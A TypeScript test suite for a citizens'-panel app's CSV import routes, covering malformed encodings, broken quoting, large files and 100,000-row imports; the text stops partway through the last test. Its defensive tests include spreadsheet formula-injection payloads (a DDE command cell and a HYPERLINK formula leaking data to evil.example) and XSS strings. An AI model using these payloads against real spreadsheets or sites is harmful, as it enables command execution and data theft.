/**
 * Issue 8, "Bad input": CSV files as organisers really upload them, through the real upload routes (the
 * pool import and the quota import) on a real SQLite file. A broken file gets a 4xx whose message names the
 * problem, and the line where it has one, and says what to do; nothing in the database changes. A file that
 * is only unusual (a UTF-8 BOM, CRLF or mixed line endings, quoted commas) imports correctly. Cells that a
 * spreadsheet would run as formulas are data: names are stored as written, answers must be one of the
 * category's values. And 100,000 rows import whole, or not at all.
 *
 * The exports side (formula cells neutralised in every CSV the app writes) is in csv-export.test.ts.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import request from 'supertest';
import { createApp } from '../../src/app';
import { run } from '../../src/cli/run';
import { ManualClock } from '../../src/clock';
import { testConfig } from '../../src/config';
import { closeDb, openDb, type Db } from '../../src/db';
import { MAX_UPLOAD_MB } from '../../src/web/upload';
import { decode, problemTable } from '../csv-problems';
import { csrfToken, logIn, smallPanel, snapshot } from '../helpers';

jest.setTimeout(120_000);

// ---------------------------------------------------------------------------------------------
// The app on a database file, and uploading to it
// ---------------------------------------------------------------------------------------------

const opened: { db: Db; dir: string }[] = [];
afterAll(() => {
  for (const { db, dir } of opened) {
    closeDb(db);
    fs.rmSync(dir, { recursive: true, force: true });
  }
});

/** A fresh app on its own database file, the small test panel (gender, age band), and an organiser. */
async function fresh() {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cp-csv-import-'));
  const db = openDb(path.join(dir, 'panel.db'));
  opened.push({ db, dir });
  const clock = new ManualClock();
  const { app } = createApp({ db, clock, config: testConfig(), log: () => {} });
  const { panelId } = smallPanel(db, clock);
  const organiser = await logIn(db, clock, request.agent(app), 'organiser');
  return { db, clock, app, panelId, organiser, page: { pool: `/admin/panels/${panelId}/pool`, quotas: `/admin/panels/${panelId}/quotas` } };
}
type Fresh = Awaited<ReturnType<typeof fresh>>;
type Route = 'pool' | 'quotas';

/** Uploads a file to a route's import form the way the browser does: multipart, token and consent as fields. */
async function upload(t: Fresh, route: Route, file: string | Buffer, name = `${route}.csv`) {
  const token = await csrfToken(t.organiser, t.page[route]);
  const req = t.organiser.post(`${t.page[route]}/import`).field('_csrf', token);
  if (route === 'pool') req.field('consentConfirmed', 'yes');
  return req.attach('file', Buffer.isBuffer(file) ? file : Buffer.from(file), name);
}




/** The message of the error page (413, an empty upload): what the user reads there. */
const errorPage = (html: string) => decode(/<main[\s\S]*<\/main>/.exec(html)?.[0].replace(/<[^>]+>/g, ' ').replace(/\s+/g, ' ') ?? html);

interface Person {
  name: string;
  email: string | null;
  phone: string | null;
  address: string;
  postcode: string;
}
const people = (db: Db, panelId: number) =>
  db.prepare('SELECT name, email, phone, address, postcode FROM registrants WHERE panel_id = ? ORDER BY id').all(panelId) as Person[];

/** Everyone's answers on a panel: "name|category|value", sorted. */
function answers(db: Db, panelId: number): string[] {
  const rows = db
    .prepare(
      `SELECT r.name, c.key, v.value FROM registrant_values rv
       JOIN registrants r ON r.id = rv.registrant_id JOIN categories c ON c.id = rv.category_id
       JOIN category_values v ON v.id = rv.value_id WHERE r.panel_id = ?`,
    )
    .all(panelId) as { name: string; key: string; value: string }[];
  return rows.map((r) => `${r.name}|${r.key}|${r.value}`).sort();
}

const quotas = (db: Db, panelId: number) =>
  db
    .prepare(
      `SELECT c.key || ':' || v.value || '=' || v.quota_min || '-' || v.quota_max AS q FROM category_values v
       JOIN categories c ON c.id = v.category_id WHERE c.panel_id = ? AND v.quota_min IS NOT NULL ORDER BY q`,
    )
    .pluck()
    .all(panelId) as string[];

// ---------------------------------------------------------------------------------------------
// Good files, one per route, that the broken variants below are made from
// ---------------------------------------------------------------------------------------------

const GOOD: Record<Route, string[]> = {
  pool: [
    'name,email,phone,address,postcode,gender,age',
    'Ada One,ada.one@example.org,07700 900001,1 High Street,CV1 1AA,Woman,16-39',
    'Ben Two,ben.two@example.org,,2 High Street,CV1 1AB,Man,40-64',
    'Cat Three,,07700 900003,3 High Street,CV1 1AD,Woman,65+',
  ],
  quotas: ['category,value,min,max', 'gender,Woman,4,6', 'gender,Man,4,6', 'age,16-39,3,5'],
};
const text = (lines: string[]) => `${lines.join('\n')}\n`;
/** The good file with line `n` (1 = the header) rewritten. */
const withLine = (route: Route, n: number, edit: (line: string) => string) => text(GOOD[route].map((l, i) => (i === n - 1 ? edit(l) : l)));
/** The cells of line `n` of the good file. */
const cellsOf = (route: Route, n: number) => GOOD[route][n - 1].split(',');
const headerOf = (route: Route) => cellsOf(route, 1);
const setCell = (line: string, i: number, edit: (cell: string) => string) => line.split(',').map((c, j) => (j === i ? edit(c) : c)).join(',');

const utf16le = (s: string) => Buffer.from(s, 'utf16le');
const utf16be = (s: string) => Buffer.from(s, 'utf16le').swap16();

/** Bytes from a seeded generator (xorshift), so the "garbage" is the same on every run. */
function garbage(length: number, seed = 2463534242): Buffer {
  let x = seed;
  return Buffer.from(Array.from({ length }, () => {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    return x & 0xff;
  }));
}

interface BadFile {
  file: (route: Route) => string | Buffer;
  /** The problems the page lists (line, column, a pattern of the message), per route. */
  problems: (route: Route) => { line: number; column?: string; message: RegExp }[];
}

const SAVE_AS = /save (it|the file) .*"CSV UTF-8 \(comma delimited\)".* upload it again/i;

const BAD_FILES: Record<string, BadFile> = {
  // Broken quoting
  'an unterminated quote (line 3, second cell)': {
    file: (r) => withLine(r, 3, (l) => setCell(l, 1, (c) => `"${c}`)),
    problems: (r) => [{ line: 3, message: new RegExp(`column "${headerOf(r)[1]}" opens with a quote mark .* never closed.*Add the closing quote mark`) }],
  },
  'a quote in the middle of an unquoted cell (line 3)': {
    file: (r) => withLine(r, 3, (l) => setCell(l, 0, (c) => `${c.slice(0, 2)}"${c.slice(2)}`)),
    problems: (r) => [{ line: 3, message: new RegExp(`quote mark \\(\"\\) in column "${headerOf(r)[0]}" comes in the middle of a cell\\. Put the whole cell in quote marks and double`) }],
  },
  'text after a closing quote (line 4)': {
    file: (r) => withLine(r, 4, (l) => setCell(l, 0, (c) => `"${c.slice(0, 2)}"${c.slice(2)}`)),
    problems: (r) => [{ line: 4, message: new RegExp(`a quoted cell in column "${headerOf(r)[0]}" has more text after its closing quote mark`) }],
  },
  'a quote opened on line 2 and closed on line 3 in the middle of a cell': {
    file: (r) => text([...GOOD[r].slice(0, 1), `${cellsOf(r, 2)[0]},"x`, `y"z,${cellsOf(r, 2).slice(2).join(',')}`, ...GOOD[r].slice(2)]),
    problems: (r) => [{ line: 2, message: new RegExp(`a quoted cell in column "${headerOf(r)[1]}" has more text after its closing quote mark`) }],
  },
  // A lone CR is a line break (old Mac files), so inside an unquoted cell it splits the row.
  'a stray CR inside an unquoted cell (line 3)': {
    file: (r) => withLine(r, 3, (l) => setCell(l, 0, (c) => `${c.slice(0, 2)}\r${c.slice(2)}`)),
    problems: (r) => [{ line: 3, message: new RegExp(`^expected ${headerOf(r).length} cells, found 1$`) }],
  },

  // Wrong encodings
  'UTF-16 LE with a BOM ("Unicode text" from Excel)': { file: (r) => utf16le(`\uFEFF${text(GOOD[r])}`), problems: () => [{ line: 1, message: /saved as UTF-16 \("Unicode text"\)/ }] },
  'UTF-16 LE without a BOM': { file: (r) => utf16le(text(GOOD[r])), problems: () => [{ line: 1, message: /saved as UTF-16/ }] },
  'UTF-16 BE with a BOM': { file: (r) => utf16be(`\uFEFF${text(GOOD[r])}`), problems: () => [{ line: 1, message: /saved as UTF-16/ }] },
  'UTF-16 BE without a BOM': { file: (r) => utf16be(text(GOOD[r])), problems: () => [{ line: 1, message: /saved as UTF-16/ }] },
  'Latin-1 (an é on line 3)': {
    file: (r) => Buffer.from(withLine(r, 3, (l) => setCell(l, 0, (c) => `${c}é`)), 'latin1'),
    problems: () => [{ line: 1, message: /not UTF-8 text: line 3 is the first with a character stored another way/ }],
  },
  'Windows-1252 (curly quotes and a € on line 2)': {
    file: (r) => Buffer.concat([Buffer.from(`${GOOD[r][0]}\n`), Buffer.from([0x93, 0x41, 0x94, 0x80]), Buffer.from(`${GOOD[r][1]}\n`)]),
    problems: () => [{ line: 1, message: /not UTF-8 text: line 2 is the first.*Windows-1252/ }],
  },
  'invalid UTF-8: an overlong encoding of "/" on line 4': {
    file: (r) => Buffer.concat([Buffer.from(text(GOOD[r].slice(0, 3))), Buffer.from([0xc0, 0xaf]), Buffer.from(text(GOOD[r].slice(3)))]),
    problems: () => [{ line: 1, message: /not UTF-8 text: line 4 is the first/ }],
  },
  'invalid UTF-8: a lone continuation byte on line 2': {
    file: (r) => Buffer.concat([Buffer.from(`${GOOD[r][0]}\nx`), Buffer.from([0x80]), Buffer.from(text(GOOD[r].slice(1)))]),
    problems: () => [{ line: 1, message: /not UTF-8 text: line 2 is the first/ }],
  },
  'invalid UTF-8: a character cut short at the end of the file': {
    file: (r) => Buffer.concat([Buffer.from(text(GOOD[r])), Buffer.from([0xe2, 0x82])]),
    problems: (r) => [{ line: 1, message: new RegExp(`not UTF-8 text: line ${GOOD[r].length + 1} is the first`) }],
  },

  // Not CSV at all
  'a NUL byte in a cell on line 4': {
    file: (r) => withLine(r, 4, (l) => setCell(l, 0, (c) => `${c}\u0000`)),
    problems: () => [{ line: 4, message: /NUL character .* no CSV file holds/ }],
  },
  'binary garbage (a PNG image)': {
    file: () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]), Buffer.from('IHDR'), garbage(3000)]),
    problems: () => [{ line: 1, message: /not UTF-8 text, nor text at all.*Check that you chose the right file/ }],
  },
  'random bytes': { file: () => garbage(5000, 88172645), problems: () => [{ line: 1, message: /not UTF-8 text, nor text at all/ }] },
  'an Excel workbook (.xlsx is a zip)': {
    file: () => Buffer.concat([Buffer.from('PK\u0003\u0004\u0014\u0000\u0006\u0000'), Buffer.from('[Content_Types].xml'), garbage(500)]),
    problems: () => [{ line: 1, message: /an Excel workbook \(\.xlsx\)/ }],
  },
  'an old Excel workbook (.xls)': {
    file: () => Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), garbage(500)]),
    problems: () => [{ line: 1, message: /an old Excel workbook \(\.xls\)/ }],
  },
  'semicolons instead of commas (a European Excel)': {
    file: (r) => text(GOOD[r].map((l) => l.replace(/,/g, ';'))),
    problems: () => [{ line: 1, message: /separated by semicolons \(;\), not commas/ }],
  },
  'tabs instead of commas': {
    file: (r) => text(GOOD[r].map((l) => l.replace(/,/g, '\t'))),
    problems: () => [{ line: 1, message: /separated by tabs, not commas/ }],
  },

  // Shape
  'blank lines only': { file: () => '\n\r\n\n  \n', problems: () => [{ line: 1, message: /^the file is empty: it needs a header row$/ }] },
  'a UTF-8 BOM and nothing else': { file: () => Buffer.from([0xef, 0xbb, 0xbf]), problems: () => [{ line: 1, message: /^the file is empty: it needs a header row$/ }] },
  'a header row only': {
    file: (r) => `${GOOD[r][0]}\r\n\r\n`,
    problems: (r) => [{ line: 2, message: r === 'pool' ? /^the file has a header row but no registrations$/ : /^the file has a header but no quotas$/ }],
  },
  'a column named twice': {
    file: (r) => withLine(r, 1, (l) => setCell(l, 2, () => headerOf(r)[1])),
    problems: (r) => [{ line: 1, column: headerOf(r)[1], message: /^this column name appears twice$/ }],
  },
  'ragged rows: one short, one long': {
    file: (r) => text([GOOD[r][0], GOOD[r][1], cellsOf(r, 2).slice(0, 2).join(','), `${GOOD[r][3]},extra`]),
    problems: (r) => [
      { line: 3, message: new RegExp(`^expected ${headerOf(r).length} cells, found 2$`) },
      { line: 4, message: new RegExp(`^expected ${headerOf(r).length} cells, found ${headerOf(r).length + 1}$`) },
    ],
  },
};

// ---------------------------------------------------------------------------------------------
// Broken files: a clear message, nothing changed
// ---------------------------------------------------------------------------------------------

describe.each(['pool', 'quotas'] as const)('a broken file uploaded to the %s import: 400, the problem named, nothing changed', (route) => {
  let t: Fresh;
  beforeAll(async () => {
    t = await fresh();
    // Something already there, that a refused upload must leave alone.
    expect((await upload(t, route, text(GOOD[route]))).status).toBe(303);
  });

  test.each(Object.keys(BAD_FILES))('%s', async (name) => {
    const bad = BAD_FILES[name];
    const before = snapshot(t.db);

    const res = await upload(t, route, bad.file(route), 'people & places.csv');

    expect(res.status).toBe(400);
    expect(res.text).toContain('people &amp; places.csv: nothing was imported');
    const shown = problemTable(res.text);
    const expected = bad.problems(route);
    expect(shown.map((p) => p.line)).toEqual(expected.map((p) => p.line));
    expected.forEach((p, i) => {
      expect(shown[i].message).toMatch(p.message);
      if (p.column) expect(shown[i].column).toBe(p.column);
    });
    // Encoding problems also say what to do about them.
    for (const p of shown.filter((s) => /UTF|Excel|NUL|separated/.test(s.message))) expect(p.message).toMatch(SAVE_AS);
    expect(snapshot(t.db)).toEqual(before);
  });

  test('an empty file (0 bytes): 400 asking for a file', async () => {
    const before = snapshot(t.db);
    const res = await upload(t, route, Buffer.alloc(0));
    expect(res.status).toBe(400);
    expect(errorPage(res.text)).toContain('No file was chosen, or the file is empty. Choose a CSV file and try again.');
    expect(snapshot(t.db)).toEqual(before);
  });

  test(`a file over ${MAX_UPLOAD_MB} MB: 413 saying the limit and to split the file`, async () => {
    const before = snapshot(t.db);
    const row = `${GOOD[route][1]}\n`;
    const big = Buffer.from(GOOD[route][0] + '\n' + row.repeat(Math.ceil((MAX_UPLOAD_MB * 1024 * 1024) / row.length) + 1));
    expect(big.length).toBeGreaterThan(MAX_UPLOAD_MB * 1024 * 1024);

    const res = await upload(t, route, big);

    expect(res.status).toBe(413);
    expect(errorPage(res.text)).toContain(`The file is larger than ${MAX_UPLOAD_MB} MB. Split it into smaller files and upload each.`);
    expect(snapshot(t.db)).toEqual(before);
  });

  test('two files, or the file under another name: 400, nothing changed', async () => {
    const before = snapshot(t.db);
    const token = await csrfToken(t.organiser, t.page[route]);
    const two = await t.organiser
      .post(`${t.page[route]}/import`)
      .field('_csrf', token)
      .field('consentConfirmed', 'yes')
      .attach('file', Buffer.from(text(GOOD[route])), 'a.csv')
      .attach('file', Buffer.from(text(GOOD[route])), 'b.csv');
    expect(two.status).toBe(400);
    expect(errorPage(two.text)).toMatch(/The upload could not be read \(.+\)\. Choose one CSV file and try again\./);
    const other = await t.organiser.post(`${t.page[route]}/import`).field('_csrf', token).field('consentConfirmed', 'yes').attach('upload', Buffer.from(text(GOOD[route])), 'a.csv');
    expect(other.status).toBe(400);
    expect(snapshot(t.db)).toEqual(before);
  });
});

describe('every problem in a file is listed at once, by line, and none of the file is imported', () => {
  test('pool: a ragged row is reported first; once fixed, every bad cell is listed, a multi-line row by its first line', async () => {
    const t = await fresh();
    const before = snapshot(t.db);
    const csv = text([
      GOOD.pool[0],
      GOOD.pool[1],
      'Dee Four,dee@example.org,,"Flat 2,\n4 High Street",CV1 1AA,Robot,16-39', // lines 3-4, a bad gender
      'Eve Five,not-an-email,,5 High Street,CV1 1AA,Woman,16-39',
      GOOD.pool[2],
      'Fay Six,fay@example.org,,6 High Street,CV1 1AA,Woman',
    ]);
    const res = await upload(t, 'pool', csv);
    expect(res.status).toBe(400);
    expect(problemTable(res.text)).toEqual([
      { line: 7, column: '', message: 'expected 7 cells, found 6' },
    ]);
    // The ragged row is a problem of the file's shape, found first; fixed, the cell problems follow.
    const fixed = await upload(t, 'pool', csv.replace('Fay Six,fay@example.org,,6 High Street,CV1 1AA,Woman', 'Fay Six,fay@example.org,,6 High Street,CV1 1AA,Woman,40-64'));
    expect(problemTable(fixed.text)).toEqual([
      { line: 3, column: 'gender', message: '"Robot" is not one of: Woman, Man' },
      { line: 5, column: 'email', message: 'Email must look like name@example.org.' },
    ]);
    expect(snapshot(t.db)).toEqual(before);
  });
});

// ---------------------------------------------------------------------------------------------
// Unusual but good files: imported correctly
// ---------------------------------------------------------------------------------------------

describe('unusual but well-formed files import correctly', () => {
  const expectedPeople: Person[] = [
    { name: 'Ada One', email: 'ada.one@example.org', phone: '07700 900001', address: '1 High Street', postcode: 'CV1 1AA' },
    { name: 'Ben Two', email: 'ben.two@example.org', phone: null, address: '2 High Street', postcode: 'CV1 1AB' },
    { name: 'Cat Three', email: null, phone: '07700 900003', address: '3 High Street', postcode: 'CV1 1AD' },
  ];
  const expectedAnswers = ['Ada One|age|16-39', 'Ada One|gender|Woman', 'Ben Two|age|40-64', 'Ben Two|gender|Man', 'Cat Three|age|65+', 'Cat Three|gender|Woman'];

  test.each([
    ['a UTF-8 BOM and CRLF line ends (Excel\'s "CSV UTF-8")', Buffer.from(`\uFEFF${GOOD.pool.join('\r\n')}\r\n`)],
    ['mixed line endings: CRLF, LF and a lone CR', `${GOOD.pool[0]}\r\n${GOOD.pool[1]}\n${GOOD.pool[2]}\r${GOOD.pool[3]}\r\n`],
    ['no line end after the last row', GOOD.pool.join('\n')],
    ['blank lines, and rows of empty cells at the end as spreadsheets leave them', `\n${GOOD.pool[0]}\n\n${GOOD.pool.slice(1).join('\n\n')}\n,,,,,,\n,,,,,,\n\n`],
    ['spaces around cells, and every cell quoted', text(GOOD.pool.map((l) => l.split(',').map((c) => ` "${c}" `).join(',')))],
  ])('%s', async (_name, file) => {
    const t = await fresh();
    const res = await upload(t, 'pool', file);
    expect(problemTable(res.text)).toEqual([]);
    expect(res.status).toBe(303);
    expect(res.headers.location).toBe(`${t.page.pool}?imported=3`);
    expect(people(t.db, t.panelId)).toEqual(expectedPeople);
    expect(answers(t.db, t.panelId)).toEqual(expectedAnswers);
  });

  test('quoted commas, doubled quotes, line breaks and non-Latin letters are kept exactly', async () => {
    const t = await fresh();
    const csv = text([
      GOOD.pool[0],
      '"O\'Brien, Siobhán",sio@example.org,,"Flat 2, ""The Mill""\r\nMill Lane",CV1 1AA,Woman,16-39',
      'Zoë Ångström-Łukasz 王秀英,zoe@example.org,,ساحة 7,CV1 1AB,Man,40-64',
    ]);
    const res = await upload(t, 'pool', Buffer.from(`\uFEFF${csv}`));
    expect(res.status).toBe(303);
    expect(people(t.db, t.panelId).map((p) => [p.name, p.address])).toEqual([
      ["O'Brien, Siobhán", 'Flat 2, "The Mill"\nMill Lane'],
      ['Zoë Ångström-Łukasz 王秀英', 'ساحة 7'],
    ]);
  });

  test('a quotas file with a BOM and CRLF', async () => {
    const t = await fresh();
    const res = await upload(t, 'quotas', Buffer.from(`\uFEFF${GOOD.quotas.join('\r\n')}\r\n`));
    expect(res.status).toBe(303);
    expect(quotas(t.db, t.panelId)).toEqual(['age:16-39=3-5', 'gender:Man=4-6', 'gender:Woman=4-6']);
  });

  test('columns named __proto__, constructor or toString are just unused columns', async () => {
    const t = await fresh();
    const csv = text([`${GOOD.pool[0]},__proto__,constructor,toString`, ...GOOD.pool.slice(1).map((l) => `${l},x,y,z`)]);
    const res = await upload(t, 'pool', csv);
    expect(res.status).toBe(303);
    expect(res.headers.location).toBe(`${t.page.pool}?imported=3&ignored=${encodeURIComponent('__proto__, constructor, toString')}`);
    expect(people(t.db, t.panelId)).toEqual(expectedPeople);
  });

  test('markup in a file name or a header is shown as text, never as markup', async () => {
    const t = await fresh();
    const name = '<img src=x onerror=alert(1)>.csv';
    const refused = await upload(t, 'pool', 'a,b\n1,2\n', name);
    expect(refused.status).toBe(400);
    expect(refused.text).not.toContain('<img src=x');
    expect(refused.text).toContain('&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;.csv: nothing was imported');

    const res = await upload(t, 'pool', text([`${GOOD.pool[0]},<script>alert(1)</script>`, ...GOOD.pool.slice(1).map((l) => `${l},x`)]));
    expect(res.status).toBe(303);
    const page = await t.organiser.get(res.headers.location as string);
    expect(page.text).not.toContain('<script>alert(1)</script>');
    expect(page.text).toContain('These columns were not used: &lt;script&gt;alert(1)&lt;/script&gt;.');
  });
});

// ---------------------------------------------------------------------------------------------
// Formula-injection cells
// ---------------------------------------------------------------------------------------------

/** What attackers put in a cell so that a spreadsheet opening an export runs it. */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1', // full-width: no spreadsheet runs these, so they are plain text everywhere
  '＋1+1',
  '＠SUM(A1)',
];

describe('formula-injection cells are data', () => {
  test('in names and addresses: imported as plain text, the name exactly as written (leading tab or CR trimmed, as any space is)', async () => {
    const t = await fresh();
    const rows = FORMULAS.map((f, i) => {
      const cell = (s: string) => `"${s.replace(/"/g, '""')}"`;
      return [cell(f), `f${i}@example.org`, '', cell(`${f} Street`), 'CV1 1AA', 'Woman', '16-39'].join(',');
    });
    const res = await upload(t, 'pool', text([GOOD.pool[0], ...rows]));

    expect(problemTable(res.text)).toEqual([]);
    expect(res.status).toBe(303);
    const stored = people(t.db, t.panelId);
    expect(stored.map((p) => p.name)).toEqual(FORMULAS.map((f) => f.replace(/^[\t\r]/, '')));
    expect(stored.map((p) => p.address)).toEqual(FORMULAS.map((f) => `${f.replace(/^[\t\r]/, '')} Street`));
    // The pool page shows them as text.
    const page = await t.organiser.get(t.page.pool);
    expect(page.status).toBe(200);
    expect(page.text).toContain('<td>&#x3D;cmd|&#x27; /C calc&#x27;!A0</td>');
    expect(page.text).not.toContain('href="http://evil.example');
  });

  test("a cell carrying the export's guard (a leading ') is read back without it, so exports re-import unchanged", async () => {
    const t = await fresh();
    const csv = text([GOOD.pool[0], "'=SUM(A1),a@example.org,,1 Road,CV1 1AA,Woman,16-39", "'''+1,b@example.org,,2 Road,CV1 1AA,Man,40-64", "'Quoted,c@example.org,,3 Road,CV1 1AA,Man,40-64"]);
    expect((await upload(t, 'pool', csv)).status).toBe(303);
    expect(people(t.db, t.panelId).map((p) => p.name)).toEqual(['=SUM(A1)', "''+1", "'Quoted"]);
  });

  test('in a category column: refused, naming the line, the column and the values allowed; nothing imported', async () => {
    const t = await fresh();
    const before = snapshot(t.db);
    const rows = ["=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1)', '"\t=1+1"'].map((f, i) => `P${i},p${i}@example.org,,${i} Road,CV1 1AA,${f},16-39`);
    const res = await upload(t, 'pool', text([GOOD.pool[0], ...rows]));

    expect(res.status).toBe(400);
    expect(problemTable(res.text)).toEqual(
      ["=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1)', '\t=1+1'].map((f, i) => ({ line: i + 2, column: 'gender', message: `"${f}" is not one of: Woman, Man` })),
    );
    expect(snapshot(t.db)).toEqual(before);
  });

  test('in a quotas file: refused as an unknown value, nothing changed', async () => {
    const t = await fresh();
    const before = snapshot(t.db);
    const res = await upload(t, 'quotas', text([GOOD.quotas[0], "gender,=cmd|' /C calc'!A0,1,2", '@SUM(A1),Woman,1,2', 'age,-2+3,1,2', 'age,16-39,+1,2']));
    expect(res.status).toBe(400);
    expect(problemTable(res.text)).toEqual([
      { line: 5, column: 'min', message: '"+1" is not a whole number of people (0 or more)' },
    ]);
    const fixed = await upload(t, 'quotas', text([GOOD.quotas[0], "gender,=cmd|' /C calc'!A0,1,2", '@SUM(A1),Woman,1,2', 'age,-2+3,1,2']));
    expect(problemTable(fixed.text)).toEqual([
      { line: 2, column: 'value', message: '"=cmd|\' /C calc\'!A0" is not a value of gender (Woman, Man)' },
      { line: 3, column: 'category', message: '"@SUM(A1)" is not a category of this panel (gender, age)' },
      { line: 4, column: 'value', message: '"-2+3" is not a value of age (16-39, 40-64, 65+)' },
    ]);
    expect(snapshot(t.db)).toEqual(before);
  });
});

// ---------------------------------------------------------------------------------------------
// The CLI draw reads the same files, with the same messages
// ---------------------------------------------------------------------------------------------

describe('citizens-panel draw: a broken pool file is named with its line, exit status 2', () => {
  let dir: string;
  beforeAll(() => (dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cp-csv-cli-'))));
  afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));
  const POOL = ['id,gender', 'p1,Woman', 'p2,Man', 'p3,Woman', 'p4,Man'];
  const QUOTAS = ['category,value,min,max', 'gender,Woman,1,1', 'gender,Man,1,1'];

  test.each([
    ['UTF-16', utf16le(`\uFEFF${text(POOL)}`), /pool\.csv:\n {2}line 1: the file is saved as UTF-16/],
    ['Latin-1', Buffer.from(text([...POOL, 'pé,Woman']), 'latin1'), /pool\.csv:\n {2}line 1: the file is not UTF-8 text: line 6 is the first/],
    ['a NUL byte', text([...POOL.slice(0, 3), 'p3\u0000,Woman']), /pool\.csv:\n {2}line 4: this line has a NUL character/],
    ['an unterminated quote', text([...POOL.slice(0, 2), '"p2,Man', 'p3,Woman']), /pool\.csv:\n {2}line 3: this row is not valid CSV: a cell in column "id" opens with a quote mark/],
  ])('%s in the pool', async (_name, pool, message) => {
    const poolFile = path.join(dir, 'pool.csv');
    const quotasFile = path.join(dir, 'quotas.csv');
    fs.writeFileSync(poolFile, pool);
    fs.writeFileSync(quotasFile, text(QUOTAS));
    const err: string[] = [];
    const code = await run(['draw', '--pool', poolFile, '--quotas', quotasFile, '--panel-size', '2', '--json'], { out: () => {}, err: (s) => err.push(s) });
    expect(code).toBe(2);
    expect(err.join('')).toMatch(/^citizens-panel draw: /);
    expect(err.join('')).toMatch(message);
  });
});

// ---------------------------------------------------------------------------------------------
// 100,000 rows
// ---------------------------------------------------------------------------------------------

describe('100,000 rows through the real route', () => {
  const N = 100_000;
  const GENDERS = ['Woman', 'Man'];
  const AGES = ['16-39', '40-64', '65+'];
  const pad = (i: number) => String(i).padStart(6, '0');
  const row = (i: number) => `Person ${pad(i)},p${pad(i)}@example.org,07700 ${pad(i)},${i} Long Road,cv${1 + (i % 9)} ${i % 10}aa,${GENDERS[i % 2]},${AGES[i % 3]}`;
  /** Built in memory: about 8 MB, under the upload limit. */
  const bigPool = (edit: (i: number, line: string) => string = (_i, l) => l) => {
    const lines = [GOOD.pool[0]];
    for (let i = 1; i <= N; i++) lines.push(edit(i, row(i)));
    return `${lines.join('\n')}\n`;
  };

  test('a 100,000-row pool imports whole: every row stored with its answers (there is no row limit below the 20 MB upload limit)', async () => {
    const t = await fresh();
    const csv = bigPool();
    expect(Buffer.byteLength(csv)).toBeLessThan(MAX_UPLOAD_MB * 1024 * 1024);

    const started = Date.now();
    const res = await upload(t, 'pool', csv);
    const ms = Date.now() - started;
    console.log(`100,000-row pool import (${(Buffer.byteLength(csv) / 1e6).toFixed(1)} MB): ${ms} ms`);

    expect(problemTable(res.text)).toEqual([]);
    expect(res.status).toBe(303);
    expect(res.headers.location).toBe(`${t.page.pool}?imported=${N}`);
    expect(t.db.prepare('SELECT COUNT(*) FROM registrants WHERE panel_id = ?').pluck().get(t.panelId)).toBe(N);
    expect(t.db.prepare('SELECT COUNT(*) FROM registrant_values').pluck().get()).toBe(2 * N);
    expect(t.db.prepare('SELECT COUNT(DISTINCT public_id) FROM registrants').pluck().get()).toBe(N);
    const byEmail = t.db.prepare(
      `SELECT r.name, r.phone, r.address, r.postcode, group_concat(v.value, '|') AS answers FROM registrants r
       JOIN registrant_values rv ON rv.registrant_id = r.id JOIN category_values v ON v.id = rv.value_id
       WHERE r.email = ? GROUP BY r.id`,
    );
    for (const i of [1, 2, 3, 4_999, 50_000, 77_777, N]) {
      const got = byEmail.get(`p${pad(i)}@example.org`) as { name: string; phone: string; address: string; postcode: string; answers: string };
      expect(got).toMatchObject({ name: `Person ${pad(i)}`, phone: `07700 ${pad(i)}`, address: `${i} Long Road`, postcode: `CV${1 + (i % 9)} ${i % 10}AA` });
      expect(got.answers.split('|').sort()).toEqual([GENDERS[i % 2], AGES[i % 3]].sort());
    }
    const page = await t.organiser.get(t.page.pool);
    expect(page.text).toContain('<p class="lead">100000 people registered.</p>');
    const audit = t.db.prepare("SELECT detail FROM audit_log WHERE action = 'pool.import'").pluck().get() as string;
    expect(JSON.parse(audit)).toMatchObject({ rows: N });
  });

  test('one bad row at the very end: nothing of the 100,000 is stored, and the line is named', async () => {
    const t = await fresh();
    const before = snapshot(t.db);
    const csv = bigPool((i, line) => (i === N ? line.replace(/,Woman,|,Man,/, ',Robot,') : line));

    const started = Date.now();
    const res = await upload(t, 'pool', csv);
    console.log(`100,000-row pool with one bad row, refused: ${Date.now() - started} ms`);

    expect(res.status).toBe(400);
    expect(problemTable(res.text)).toEqual([{ line: N + 1, column: 'gender', message: '"Robot" is not one of: Woman, Man' }]);
    expect(snapshot(t.db)).toEqual(before);
  });

  test('every row bad: the first 200 problems are listed and the rest counted', async () => {
    const t = await fresh();
    const before = snapshot(t.db);
    const csv = bigPool((_i, line) => line.replace(/,(16-39|40-64|65\+)$/, ',ninety'));

    const started = Date.now();
    const res = await upload(t, 'pool', csv);
    console.log(`100,000-row pool, every row bad, refused: ${Date.now() - started} ms, page ${(res.text.length / 1e3).toFixed(0)} kB`);

    expect(res.status).toBe(400);
    const shown = problemTable(res.text);
    expect(shown).toHaveLength(200);
    expect(shown[0]).toEqual({ line: 2, column: 'age', message: '"ninety" is not one of: 16-39, 40-64, 65+' });
    expect(res.text).toContain(`Fix these ${N} problems in the file`);
    expect(res.text).toContain(`…and ${N - 200} more.`);
    expect(snapshot(t.db)).toEqual(before);
  });

  test('a quotas file of 100,000 bad rows: the first 200 listed and the rest counted, as for the pool', async () => {
    const t = await fresh();
    const before = snapshot(t.db);
    const lines = [GOOD.quotas[0]];
    for (let i = 1; i <= N; i++) lines.push(`gender,Value ${i},1,2`);

    const started = Date.now();
    const res = await upload(t, 'quotas', text(lines));
    console.log(`100,000-row quotas file, every row bad, refused: ${Date.now() - started} ms, page ${(res.text.length / 1e3).toFixed(0)} kB`);

    expect(res.status).toBe(400);
    const shown = problemTable(res.text);
    expect(shown).toHaveLength(200);
    expect(shown[0]).toEqual({ line: 2, column: 'value', message: '"Value 1" is not a value of gender (Woman, Man)' });
